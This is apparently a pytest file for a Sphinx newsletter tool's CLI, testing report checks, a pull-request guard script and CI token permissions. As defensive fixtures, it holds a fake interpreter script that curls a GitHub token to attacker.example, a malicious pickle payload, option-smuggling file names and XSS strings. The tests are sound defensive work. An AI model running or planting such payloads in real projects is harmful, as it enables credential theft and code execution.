"""The ``newsletter`` command, run as a subprocess on temporary trees."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import jsonschema
import pytest
import yaml
from conftest import NEWSLETTER, run, warnings_of

from sphinx_newsletter.core.frontmatter import FrontMatterLoader

REPO = Path(__file__).parent.parent


def problem_lines(result) -> list[str]:
    """Output lines naming a problem (caret context lines are indented)."""
    return [line for line in result.stdout.splitlines() if not line.startswith("    ")]


# -- check -----------------------------------------------------------------------------------


def test_check_passes_on_good_reports(project):
    result = run("check", cwd=project("feedback"))
    assert (result.returncode, result.stdout) == (0, "")
    assert "3 report(s) checked: 0 error(s), 0 warning(s)" in result.stderr


@pytest.mark.parametrize("root", ["bad", "feedback-bad"])
def test_check_reports_the_same_problems_as_the_build(project, build, root):
    srcdir = project(root)
    result = run("check", cwd=srcdir)
    assert result.returncode == 1
    from_cli = {re.sub(r": (error|warning): ", ": WARNING: ", line) for line in problem_lines(result)}
    app, _ = build(srcdir)
    assert from_cli == set(warnings_of(app))


def hostile_files(srcdir: Path) -> None:
    """What a pull request can add that is not a plain report: a folder named like a report, a pipe,
    a link loop, names with spaces and quotes, a page outside the reports folder."""
    alpha = srcdir / "reports" / "alpha"
    (alpha / "folder.md").mkdir()
    os.mkfifo(alpha / "pipe.md")
    os.symlink(".", alpha / "loop")
    report = (alpha / "kickoff.md").read_text()
    (alpha / "with space.md").write_text(report)
    (alpha / "it's,a:name.md").write_text(report)
    (srcdir / "stray page.md").write_text("# Stray\n")


def test_check_names_what_the_build_refuses_without_a_traceback(project, build):
    srcdir = project("basic")
    hostile_files(srcdir)
    result = run("check", cwd=srcdir)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    from_cli = {re.sub(r": (error|warning): ", ": WARNING: ", line) for line in problem_lines(result)}
    app, _ = build(srcdir)
    assert from_cli == set(warnings_of(app))
    assert {line.split(":")[0] for line in from_cli} == {"reports/alpha/pipe.md", "reports/alpha/loop",
                                                          "reports/alpha/with space.md", "reports/alpha/it's,a",
                                                          "stray page.md"}


def test_github_annotations_escape_file_names(project):
    srcdir = project("basic")
    hostile_files(srcdir)
    result = run("check", "--format", "github", "--", "reports/alpha/it's,a:name.md", "reports/alpha/pipe.md",
                 cwd=srcdir)
    assert ("::error file=reports/alpha/it's%2Ca%3Aname.md,line=1,title=newsletter.refused::not built: the file "
            "name may only hold") in result.stdout
    assert "::error file=reports/alpha/pipe.md,line=1,title=newsletter.refused::not built: not a regular" in result.stdout


def test_the_pull_request_check_passes_odd_file_names_intact(project, tmp_path):
    srcdir = project("basic")
    script = REPO / ".github" / "scripts" / "check-changed.sh"

    def git(*args):
        subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@example.org", *args], cwd=srcdir,
                       check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-qm", "base")
    git("update-ref", "refs/remotes/origin/main", "HEAD")
    report = (srcdir / "reports/alpha/kickoff.md").read_text()
    (srcdir / "reports/alpha/new report \"quoted\" é.md").write_text(report.replace("title: ", "title: New "))
    (srcdir / "reports/alpha/-n.md").write_text(report.replace("title: ", "title: Dash "))
    git("add", "-A")
    git("commit", "-qm", "pull request")
    result = subprocess.run(["bash", str(script), "main", NEWSLETTER], cwd=srcdir, capture_output=True, text=True)
    assert "file=reports/alpha/new report \"quoted\" é.md,line=1,title=newsletter.refused" in result.stdout
    assert "file=reports/alpha/-n.md,line=1,title=newsletter.refused" in result.stdout  # not taken as an option


def test_the_pull_request_check_refuses_committed_build_output(project):
    """Sphinx loads the pickled environment it finds in _build/: a pull request may not bring one."""
    srcdir = project("basic")
    (srcdir / "_build/html/.doctrees").mkdir(parents=True)
    (srcdir / "_build/html/.doctrees/environment.pickle").write_bytes(b"cos\nsystem\n(S'true'\ntR.")

    def git(*args):
        subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@example.org", *args], cwd=srcdir,
                       check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("add", "-A", "--", ".", ":(exclude)_build")
    git("commit", "-qm", "base")
    git("update-ref", "refs/remotes/origin/main", "HEAD")
    git("add", "-f", "_build")
    git("commit", "-qm", "pull request")
    script = REPO / ".github" / "scripts" / "check-changed.sh"
    result = subprocess.run(["bash", str(script), "main", NEWSLETTER], cwd=srcdir, capture_output=True, text=True)
    assert result.returncode == 1
    assert "::error title=ignored files in the pull request::_build/html/.doctrees/environment.pickle" in result.stderr


def _pull_request(srcdir, change) -> subprocess.CompletedProcess:
    """The pull-request check on a repository whose base is ``srcdir`` and whose head adds what ``change``
    makes."""
    def git(*args):
        subprocess.run(["git", "-c", "user.name=T", "-c", "user.email=t@example.org", *args], cwd=srcdir,
                       check=True, capture_output=True)

    (srcdir / ".gitignore").write_text((REPO / ".gitignore").read_text())
    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-qm", "base")
    git("update-ref", "refs/remotes/origin/main", "HEAD")
    change(srcdir, git)
    git("commit", "-qm", "pull request")
    script = REPO / ".github" / "scripts" / "check-changed.sh"
    return subprocess.run(["bash", str(script), "main", NEWSLETTER], cwd=srcdir, capture_output=True, text=True)


def test_the_pull_request_check_refuses_every_ignored_path_even_if_the_pull_request_unignores_it(project):
    """make runs .venv/bin/python from the working tree, in jobs that may hold a token."""
    def change(srcdir, git):
        (srcdir / ".venv/bin").mkdir(parents=True)
        (srcdir / ".venv/bin/python").write_text("#!/bin/sh\ncurl https://attacker.example/?t=$GITHUB_TOKEN\n")
        (srcdir / ".gitignore").write_text("")  # the pull request's own rules do not count
        git("add", "-f", "-A")

    result = _pull_request(project("basic"), change)
    assert result.returncode == 1
    assert "::error title=ignored files in the pull request::.venv/bin/python" in result.stderr


def test_the_pull_request_check_refuses_new_executable_files(project):
    def change(srcdir, git):
        report = srcdir / "reports/alpha/kickoff.md"
        (srcdir / "reports/alpha/run.md").write_text(report.read_text().replace("title: ", "title: Run "))
        (srcdir / "reports/alpha/run.md").chmod(0o755)
        report.chmod(0o755)  # made executable
        git("add", "-A")

    result = _pull_request(project("basic"), change)
    assert result.returncode == 1
    assert "::error title=executable files in the pull request:: reports/alpha/kickoff.md reports/alpha/run.md" \
        in result.stderr


def test_the_pull_request_check_passes_an_honest_report(project):
    def change(srcdir, git):
        report = srcdir / "reports/alpha/kickoff.md"
        (srcdir / "reports/alpha/honest.md").write_text(report.read_text().replace("title: ", "title: Honest "))
        git("add", "-A")

    result = _pull_request(project("basic"), change)
    assert result.returncode == 0, result.stderr + result.stdout


def test_check_flags_feedback_options_that_myst_cannot_read(project, build):
    srcdir = project("feedback")
    report = srcdir / "reports/alpha/quiet.md"
    report.write_text(report.read_text() + '\n:::{feedback}\n:author: "Jim" Smith\n:date: 2020-03-01\n\nHi.\n:::\n')
    line = report.read_text().split("\n").index(":::{feedback}") + 1
    result = run("check", cwd=srcdir)
    assert result.returncode == 1
    assert (f"reports/alpha/quiet.md:{line + 1}: error: feedback options cannot be read (expected key to start at "
            "column 0); put a value that starts with a quote in single quotes") in result.stdout
    app, _ = build(srcdir)
    said = [warning for warning in warnings_of(app) if "quiet.md" in warning]  # one message, with the fix
    assert len(said) == 1 and said[0].startswith(
        f"reports/alpha/quiet.md:{line + 1}: WARNING: feedback options cannot be read (expected key to start at "
        "column 0); put a value that starts with a quote in single quotes")


def test_check_shows_a_caret_under_a_yaml_error(project):
    result = run("check", "reports/alpha/yaml-error.md", cwd=project("bad"))
    assert result.stdout.splitlines()[1:] == ["    author: [Ada Lovelace", "            ^"]  # where the list opens


def test_check_github_annotations(project):
    result = run("check", "--format", "github", "reports/alpha/bad-date.md", "reports/alpha/typo-key.md",
                 cwd=project("bad"))
    assert result.returncode == 1
    assert result.stdout.splitlines() == [
        "::error file=reports/alpha/bad-date.md,line=4,title=newsletter.bad_value::date '2020-13-45' is not a "
        "valid date: write it as YYYY-MM-DD, e.g. 'date: 2011-10-08' (the report is left out of its edition "
        "until this is fixed)",
        "::warning file=reports/alpha/typo-key.md,line=5,title=newsletter.unknown_key::unknown front matter key "
        "'sumary' is ignored; did you mean 'summary'?",
    ]


def test_warnings_fail_only_with_strict(project):
    srcdir = project("bad")
    assert run("check", "reports/alpha/typo-key.md", cwd=srcdir).returncode == 0
    assert run("check", "--strict", "reports/alpha/typo-key.md", cwd=srcdir).returncode == 1


def test_checking_a_feedback_file_checks_its_report(project):
    result = run("check", "feedback/alpha/filed.yaml", cwd=project("feedback-bad"))
    assert result.returncode == 1
    assert any(line.startswith("feedback/alpha/filed.yaml:4: error: feedback has no author")
               for line in result.stdout.splitlines())
    assert not any(line.startswith("reports/alpha/directives.md") for line in result.stdout.splitlines())


def test_duplicate_of_an_unchecked_report_is_found(project):
    result = run("check", "reports/alpha/dup-two.md", cwd=project("bad"))
    assert problem_lines(result) == [
        "reports/alpha/dup-two.md:2: warning: same title and date as reports/alpha/dup-one.md in the same cycle "
        "(which came first cannot be told): change the title, or remove one of the two reports "
        "[newsletter.duplicate]"]


# -- new ---------------------------------------------------------------------------------------


def test_new_then_check_then_break_it(project):
    srcdir = project("basic")
    result = run("new", "Back from the Zürich meetup", "--author", "Jane Doe", "--date", "2021-02-03",
                 "--event", "Zürich Meetup", "--tags", "meetup, nova", cwd=srcdir)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "reports/gamma/back-from-the-zürich-meetup.md"
    report = srcdir / result.stdout.strip()
    front = yaml.safe_load(report.read_text().split("---\n")[1])
    assert front == {"title": "Back from the Zürich meetup", "author": "Jane Doe", "date": dt.date(2021, 2, 3),
                     "event": "Zürich Meetup", "tags": ["meetup", "nova"]}
    fresh = run("check", "--strict", str(report.relative_to(srcdir)), cwd=srcdir)
    assert fresh.returncode == 1  # the example text is still there, as the strict build would say
    assert problem_lines(fresh) == [
        "reports/gamma/back-from-the-zürich-meetup.md:9: warning: the example text that 'newsletter new' wrote "
        "is still here: replace it with your report [newsletter.template_text]"]
    report.write_text(report.read_text().split("---\n\n")[0] + "---\n\nWe met in Zürich.\n")
    assert run("check", "--strict", str(report.relative_to(srcdir)), cwd=srcdir).returncode == 0

    report.write_text(report.read_text().replace("author: Jane Doe", "autor: Jane Doe")
                      .replace("date: 2021-02-03", "date: 2021-08-03"))
    broken = run("check", str(report.relative_to(srcdir)), cwd=srcdir)
    assert broken.returncode == 1
    assert problem_lines(broken) == [
        "reports/gamma/back-from-the-zürich-meetup.md:1: error: missing 'author': add e.g. 'author: Jane Doe' "
        "(the report is left out of its edition until this is fixed) [newsletter.missing_field]",
        "reports/gamma/back-from-the-zürich-meetup.md:3: warning: unknown front matter key 'autor' is ignored; "
        "did you mean 'author'? [newsletter.unknown_key]",
        "reports/gamma/back-from-the-zürich-meetup.md:4: warning: date 2021-08-03 falls outside the Gamma cycle "
        "(2020-12-31 to 2021-06-30): no configured cycle covers that date; check the date [newsletter.wrong_cycle]",
    ]


def test_new_refuses_to_overwrite(project):
    srcdir = project("basic")
    args = ("new", "Winter notes", "--author", "A", "--date", "2021-02-10")
    assert run(*args, cwd=srcdir).returncode == 0
    again = run(*args, cwd=srcdir)
    assert again.returncode == 1
    assert "reports/gamma/winter-notes.md already exists" in again.stderr


def test_new_with_several_authors_and_an_explicit_cycle(project):
    srcdir = project("basic")
    result = run("new", "Joint notes", "--author", "A", "--author", "B", "--date", "2020-12-31", "--cycle",
                 "gamma", cwd=srcdir)  # the release day opens the next cycle
    assert result.stdout.strip() == "reports/gamma/joint-notes.md"
    assert "authors: [A, B]" in (srcdir / "reports/gamma/joint-notes.md").read_text()


@pytest.mark.parametrize(("args", "message"), [
    (("--date", "2019-01-01"), "no cycle covers 2019-01-01; give --date or --cycle"),
    (("--date", "2021-08-01", "--cycle", "gamma"), "2021-08-01 is outside the Gamma cycle (2020-12-31 to 2021-06-30)"),
    (("--date", "2020-02-01", "--cycle", "beta"), "the Beta edition was published on 2020-12-31 and takes no new "
                                                  "reports; use: newsletter new Title --date 2020-02-01 --cycle gamma"),
    (("--cycle", "omega"), "no cycle named 'omega'"),
    (("--date", "01/02/2020"), "--date: '01/02/2020' is not a date in YYYY-MM-DD form"),
])
def test_new_explains_what_to_change(project, args, message):
    result = run("new", "Title", "--author", "A", *args, cwd=project("basic"))
    assert result.returncode == 2
    assert message in result.stderr


# -- cycles and schemas -------------------------------------------------------------------------


def test_cycles_lists_windows_status_and_counts(project):
    result = run("cycles", cwd=project("basic"))
    assert result.returncode == 0
    lines = [line.split() for line in result.stdout.splitlines()]
    assert lines[0] == ["alpha", "Alpha", "2020-01-01", "to", "2020-06-30", "published", "2020-07-02", "2", "report(s)"]
    assert lines[2] == ["gamma", "Gamma", "2020-12-31", "to", "2021-06-30", "open", "3", "report(s)"]


@pytest.mark.parametrize("name", ["report-front-matter", "feedback"])
def test_committed_schemas_match_the_validator(name):
    generated = run("schema", name, cwd=REPO)
    committed = (REPO / "schema" / f"{name}.schema.json").read_text()
    assert generated.stdout == committed, "run 'make schema' and commit the result"


def test_schema_accepts_sample_reports_and_rejects_bad_ones():
    schema = json.loads((REPO / "schema/report-front-matter.schema.json").read_text())
    for report in sorted((REPO / "reports").glob("*/*.md")):
        jsonschema.validate(yaml.load(report.read_text().split("---\n")[1], Loader=FrontMatterLoader), schema)
    bad = [{"title": "No author", "date": "2011-10-08"},
           {"title": "T", "author": "A", "date": "8 Oct 2011"},
           {"title": "T", "author": "A", "date": "2011-10-08", "tags": "nova"},
           {"title": "T", "author": "A", "date": "2011-10-08", "sumary": "typo"},
           {"title": "T", "author": "A", "date": "2011-10-08", "myst": {}}]
    for front_matter in bad:
        with pytest.raises(jsonschema.ValidationError):
            jsonschema.validate(front_matter, schema)


def test_feedback_schema_accepts_sample_feedback():
    schema = json.loads((REPO / "schema/feedback.schema.json").read_text())
    for path in sorted((REPO / "feedback").glob("*/*.yaml")):
        jsonschema.validate(yaml.load(path.read_text(), Loader=FrontMatterLoader), schema)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate([{"author": "A", "date": "2011-10-08", "body": "x", "likes": -1}], schema)


def test_cycle_dates_may_be_date_values_in_the_build_and_the_command(project, build):
    """The settings are read once, by one constructor, for the build and the command alike."""
    srcdir = project("basic")
    conf = srcdir / "conf.py"
    text = conf.read_text().replace('"start": "2020-01-01"', '"start": datetime.date(2020, 1, 1)')
    conf.write_text("import datetime\n" + text)
    assert "datetime.date(2020, 1, 1)" in conf.read_text()
    app, _ = build(srcdir)
    assert not [line for line in warnings_of(app) if "newsletter.config" in line]
    assert (app.outdir / "editions" / "alpha.html").is_file()
    result = run("cycles", cwd=srcdir)
    assert result.returncode == 0 and "alpha" in result.stdout and "2020-01-01 to 2020-06-30" in result.stdout


def test_the_build_names_the_example_text_too(project, build):
    srcdir = project("basic")
    path = run("new", "Fresh report", "--author", "Jane Doe", "--date", "2021-02-03", cwd=srcdir).stdout.strip()
    app, _ = build(srcdir)
    expected = (f"{path}:8: WARNING: the example text that 'newsletter new' wrote is still here: replace it "
                "with your report [newsletter.template_text]")
    assert expected in warnings_of(app)
    cli = run("check", path, cwd=srcdir)
    assert re.sub(r": warning: ", ": WARNING: ", problem_lines(cli)[0]) == expected


def test_the_core_imports_no_sphinx():
    """The settings, the models, their checks and the schemas are usable without Sphinx."""
    code = ("import sys\n"
            "import sphinx_newsletter.core.settings, sphinx_newsletter.core.fields, sphinx_newsletter.core.report\n"
            "import sphinx_newsletter.core.catalogue, sphinx_newsletter.editorial.schema, sphinx_newsletter.core.problems\n"
            "import sphinx_newsletter.feedback.model, sphinx_newsletter.editorial.site\n"
            "loaded = sorted(name for name in sys.modules if name == 'sphinx' or name.startswith('sphinx.'))\n"
            "print(loaded)\n")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert result.stdout.strip() == "[]"


COMPARED = re.compile(r"\[(newsletter\.\w+|myst\.directive_unknown|myst\.role_unknown|image\.not_readable|"
                      r"download\.not_readable)\]$")


def located(lines) -> set[tuple[str, str, str]]:
    """(file, line, type.subtype) of each compared problem."""
    found = set()
    for line in lines:
        match = COMPARED.search(line)
        if match and re.match(r"^[^:]+:\d+: ", line):
            path, number = line.split(":")[:2]
            found.add((path, number, match.group(1)))
    return found


BODY_PROBLEMS = """---
title: "Body\\u202e problems"
author: Jane Doe
date: {date}
---

```{{feedbak}}
:author: Li Wei

Typo in the directive name.
```

![missing](missing.png) and {{download}}`gone <gone.pdf>` and {{reff}}`x`.

```{{note}}
A note, with an {{unknownrole}}`inside` role and ![a picture](also-missing.png).
```

![outside](../../conf.png)
"""


POLICY_PROBLEMS = """---
title: Policy removals
author: Jane Doe
date: 2020-02-20
---

Inline <span onclick="x()">span</span> and <b>bold</b>, a hard break\\
and <sub>2</sub>.

<script>alert(1)</script>

<div style="color:red">
styled
</div>

Math $\\href{javascript:alert(2)}{x}$ here.

$$
\\def\\a{b}
$$

```{toctree}
markup
```
"""


@pytest.mark.parametrize("root", ["basic", "bad", "feedback", "feedback-bad", "override", "honest", "unsafe", "hostile", "body",
                                  "policy"])
def test_check_and_the_build_name_the_same_problems_at_the_same_lines(project, build, root):
    """Parity: (file, line, subtype) of every newsletter problem, and of the body problems check finds
    without a build (unknown directives and roles, missing or refused images and downloads, what the
    output policy removes from author HTML, TeX and reST inside {eval-rst}, toctrees)."""
    srcdir = project({"body": "basic", "policy": "honest"}.get(root, root))
    if root == "body":
        (srcdir / "reports/alpha/body.md").write_text(BODY_PROBLEMS.format(date="2020-02-20"))
    if root == "policy":
        (srcdir / "reports/alpha/policy.md").write_text(POLICY_PROBLEMS)
    result = run("check", cwd=srcdir)
    assert "Traceback" not in result.stderr
    app, _ = build(srcdir)
    assert located(problem_lines(result)) == located(warnings_of(app))
    if root == "body":
        assert {subtype for _, _, subtype in located(warnings_of(app))} == {
            "myst.directive_unknown", "myst.role_unknown", "image.not_readable", "download.not_readable",
            "newsletter.refused", "newsletter.bad_value"}  # bad_value: the direction override in the title


PIECES = [
    "Plain **bold** text and a [link](https://example.org).",
    "```{eval-rst}\n.. meta::\n   :keywords: spoof\n```",
    "```{eval-rst}\nA `link <javascript:alert(1)>`_ and a `data <data:text/html,x>`_.\n```",
    "```{eval-rst}\n.. container:: nl-feedback-entry\n\n   A fake comment.\n```",
    "```{eval-rst}\n.. image:: missing-rst.png\n   :target: javascript:alert(6)\n```",
    "```{eval-rst}\n.. note:: A note with :download:`gone <gone-rst.pdf>`.\n```",
    "```{image} https://example.org/a.png\n:target: javascript:alert(2)\n```",
    "```{figure} missing-figure.png\n---\ntarget: vbscript:x\n---\nA caption.\n```",
    "<script>alert(3)</script>",
    "Inline <span onclick=\"x()\">span</span> and <sub>2</sub>.",
    "$\\href{javascript:alert(4)}{x}$ and $$\\def\\a{b}$$",
    "```{feedbak}\n:author: Typo\n\nA misspelt directive.\n```",
    "A {reff}`x` role and a {sub}`fine` one.",
    "![missing](missing.png) and ![fine](https://example.org/b.png)",
    "{download}`gone <gone.pdf>` and {download}`../../conf.py`",
    "A bell\x07 in the text.",
    "```{toctree}\nsomewhere\n```",
    ":::{feedback}\n:author: Jane\n:date: not-a-date\n\nA [link](javascript:alert(5)).\n:::",
    ":::{feedback}\n:author: Li Wei\n:date: 2020-03-01\n:likes: 2\n\nNice.\n\n```{feedback}\n:author: Bo\n"
    ":date: 2020-03-02\n\nA reply with a {directive} fence:\n\n````{note}\nx\n````\n```\n:::",
    ":::{feedback}\n:author: '\"Jim\" Smith\n:date: 2020-03-01\n\nAn option MyST cannot read.\n:::",
    "```{note}\nA note with {unknownrole}`x` and ![p](nope.png) and <i onmouseover=\"y()\">i</i>.\n```",
    "- an item with <iframe src=\"https://example.org\"></iframe>\n- and {reff}`y`",
    "> a quote with <img src=x onerror=alert(7)>",
    "```python\nprint('{not a role}', '<script>')\n```",
    "```{eval-rst}\n.. raw:: html\n\n   <b>x</b>\n```",
    "<div title=\"\n\nA paragraph an unclosed attribute would swallow.",
    "<!-- a comment that never closes",
    "Term\n: a definition with <u style=\"color:red\">style</u>",
]


@pytest.mark.parametrize("seed", [1, 2])
def test_check_and_the_build_agree_on_generated_hostile_and_broken_reports(project, build, seed):
    """Parity on reports put together at random from hostile, broken and honest pieces: markdown,
    author HTML, TeX, reST inside {eval-rst}, directives' options, feedback blocks and replies."""
    import random

    chooser = random.Random(seed)
    srcdir = project("hostile")
    for number in range(14):
        pieces = chooser.sample(PIECES, chooser.randint(2, 6))
        body = "\n\n".join(pieces)
        (srcdir / f"reports/alpha/generated-{number}.md").write_text(
            f"---\ntitle: Generated {number}\nauthor: Test\ndate: 2020-02-20\n---\n\n{body}\n")
    result = run("check", cwd=srcdir)
    assert "Traceback" not in result.stderr
    app, _ = build(srcdir)
    built = located(warnings_of(app))
    assert located(problem_lines(result)) == built
    generated = {subtype for path, _, subtype in built if "generated-" in path}
    assert len(generated) >= 5, generated  # the pieces did produce problems of many kinds


def test_a_large_tree_is_read_on_every_core_and_checked_all_the_same(project):
    """A tree large enough for Sphinx's parallel reading: a report using a Sphinx role or reST among
    hundreds is checked as in a serial read."""
    from sphinx_newsletter.checking import PARALLEL_FROM

    srcdir = project("basic")
    folder = srcdir / "reports/gamma"
    for number in range(PARALLEL_FROM):
        (folder / f"many-{number}.md").write_text(
            f"---\ntitle: Many {number}\nauthor: Test\ndate: 2021-01-10\n---\n\nText {number}.\n")
    (folder / "many-7.md").write_text("---\ntitle: Many 7\nauthor: Test\ndate: 2021-01-10\n---\n\n"
                                      "See {ref}`genindex` and {reff}`x`.\n\n```{code-block} python\nx = 1\n```\n")
    (folder / "many-8.md").write_text("---\ntitle: Many 8\nauthor: Test\ndate: 2021-01-10\n---\n\n"
                                      "```{eval-rst}\n.. meta::\n   :keywords: x\n```\n")
    result = run("check", cwd=srcdir)
    assert "Traceback" not in result.stderr
    assert problem_lines(result) == [
        "reports/gamma/many-7.md:7: warning: Unknown interpreted text role \"reff\"; did you mean 'ref'? "
        "[myst.role_unknown]",
        "reports/gamma/many-8.md:7: warning: meta tags are not allowed in reports and are left out "
        "[newsletter.unsafe]"]


RUNS_CODE = re.compile(r"(^|[\s;&|(])(make|\.venv/bin/[\w.-]+|python3?|pip3?|bash \S+\.sh)(\s|$)", re.MULTILINE)
"""A shell step that runs the repository's code (its Makefile, its virtual environment, its scripts)."""


def _workflows():
    for path in sorted((REPO / ".github/workflows").glob("*.yml")):
        workflow = yaml.safe_load(path.read_text())
        yield path.name, workflow


def test_workflow_tokens_are_the_least_each_job_needs():
    """Nothing at the top; a job that runs the repository's code (make, .venv, newsletter) holds no write
    permission; a checkout keeps no credentials unless its job pushes."""
    for name, workflow in _workflows():
        assert workflow.get("permissions") == {}, name
        for job_name, job in workflow["jobs"].items():
            permissions = job.get("permissions", {})
            steps = job.get("steps", [])
            runs_code = any(RUNS_CODE.search(step.get("run", "")) for step in steps)
            writes = {key for key, value in permissions.items() if value == "write"}
            assert not (runs_code and writes), f"{name}: job {job_name} runs repository code with {writes}"
            pushes = any("git push" in step.get("run", "") for step in steps)
            for step in steps:
                if str(step.get("uses", "")).startswith("actions/checkout"):
                    kept = (step.get("with") or {}).get("persist-credentials", True)
                    assert kept is False or pushes, f"{name}: job {job_name} keeps its checkout's token"
                if "GH_TOKEN" in (step.get("env") or {}):
                    assert not RUNS_CODE.search(step.get("run", "")), (name, step.get("name"))


# -- the console script ------------------------------------------------------------------------


def test_the_console_script_ends_a_check_with_everything_told_written_and_removed(project, tmp_path):
    """``newsletter check`` ends without Python's teardown (``console.run``): what it prints, its status, its
    cache and its scratch folder are those of the command line run as any program (``python -m``)."""
    srcdir = project("bad")
    scratch, cache = tmp_path / "tmp", tmp_path / "cache"
    scratch.mkdir()
    environment = {**{name: value for name, value in os.environ.items() if name != "PYTHONUNBUFFERED"},
                   "TMPDIR": str(scratch), "NEWSLETTER_CACHE_DIR": str(cache)}  # stdout buffered, as on a pipe
    plain = subprocess.run([sys.executable, "-m", "sphinx_newsletter.cli", "check", "--no-cache"], cwd=srcdir,
                           capture_output=True, text=True, env=environment)
    quick = subprocess.run([NEWSLETTER, "check"], cwd=srcdir, capture_output=True, text=True, env=environment)
    assert quick.returncode == plain.returncode == 1
    assert quick.stdout == plain.stdout and len(problem_lines(quick)) >= 10  # a pipe holds it in a buffer: flushed
    assert quick.stderr.splitlines()[-1] == plain.stderr.splitlines()[-1]
    assert list(scratch.iterdir()) == []  # the site's Sphinx was closed before the process ended
    assert [path.name for path in cache.rglob("*") if path.is_file()]  # the cache written and closed
    again = subprocess.run([NEWSLETTER, "check"], cwd=srcdir, capture_output=True, text=True, env=environment)
    assert (again.returncode, again.stdout) == (1, plain.stdout)  # what the cache kept tells the same


def test_the_console_script_runs_the_exit_handlers_an_extension_relies_on(project):
    """A site's extension may start a multiprocessing manager (sphinx-sitemap does), whose temporary folder
    Python removes at exit: ending a check without the teardown still runs the exit handlers."""
    import shutil
    import tempfile

    srcdir = project("feedback")
    with (srcdir / "conf.py").open("a", encoding="utf-8") as conf:
        conf.write("\nimport multiprocessing\nsitemap_like_queue = multiprocessing.Manager().Queue()\n")
    scratch = Path(tempfile.mkdtemp(prefix="nl-"))  # short: the manager's socket lives there (108 bytes at most)
    try:
        result = subprocess.run([NEWSLETTER, "check", "--no-cache"], cwd=srcdir, capture_output=True, text=True,
                                env={**os.environ, "TMPDIR": str(scratch)}, timeout=60)  # a manager left running
        assert result.returncode == 0, result.stderr  # holds the pipes open: without its handler it never ends
        assert list(scratch.iterdir()) == []  # no pymp-* folder left behind
    finally:
        shutil.rmtree(scratch, ignore_errors=True)

def test_a_check_waits_for_a_thread_an_extension_started(project):
    """Python waits at exit for the threads still running; a check with one ends as any program does."""
    srcdir = project("feedback")
    with (srcdir / "conf.py").open("a", encoding="utf-8") as conf:
        conf.write("\nimport pathlib, threading, time\nthreading.Thread(target=lambda: (time.sleep(0.5), "
                   "pathlib.Path(__file__).with_name('written.txt').write_text('x'))).start()\n")
    result = subprocess.run([NEWSLETTER, "check", "--no-cache"], cwd=srcdir, capture_output=True, text=True,
                            timeout=60)
    assert result.returncode == 0, result.stderr
    assert (srcdir / "written.txt").read_text() == "x"  # the thread finished before the process ended

def test_the_console_script_collects_garbage_while_reports_are_read(project, monkeypatch):
    """The collector is off only while the command line's modules load; a check reads with it on, and a command
    other than ``check`` ends as any Python program (``sys.exit``)."""
    import gc

    from sphinx_newsletter import cli, console

    seen: dict[str, object] = {}
    real_check = cli.check

    def check(args):
        seen["collecting"] = gc.isenabled()
        seen["frozen"] = gc.get_freeze_count() > 0
        return real_check(args)

    def exit_now(status):
        seen["status"] = status
        raise SystemExit(status)

    monkeypatch.setattr(cli, "check", check)
    monkeypatch.setattr(console.os, "_exit", exit_now)
    monkeypatch.setattr(console, "_threads_python_waits_for", lambda: False)  # the test process has threads of its own
    monkeypatch.setattr(sys, "argv", ["newsletter", "--confdir", str(project("feedback")), "check"])
    try:
        with pytest.raises(SystemExit):
            console.run()
    finally:
        gc.unfreeze()
    assert seen == {"collecting": True, "frozen": True, "status": 0}
    seen.clear()
    monkeypatch.setattr(sys, "argv", ["newsletter", "--confdir", str(project("feedback", "other")), "cycles"])
    with pytest.raises(SystemExit) as ended:
        console.run()
    assert (ended.value.code, seen, gc.isenabled()) == (0, {}, True)
